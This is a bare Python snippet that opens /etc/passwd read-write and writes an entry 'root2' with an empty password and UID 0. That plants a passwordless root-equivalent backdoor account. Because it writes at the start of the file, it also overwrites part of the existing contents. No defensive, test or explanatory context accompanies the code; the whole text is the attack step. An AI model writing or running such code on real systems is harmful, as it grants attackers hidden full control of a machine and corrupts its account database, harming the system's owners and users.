import os

handle = os.open("/etc/passwd", os.O_RDWR)
os.write(handle, b"root2::0:0::/root:/bin/sh\n")
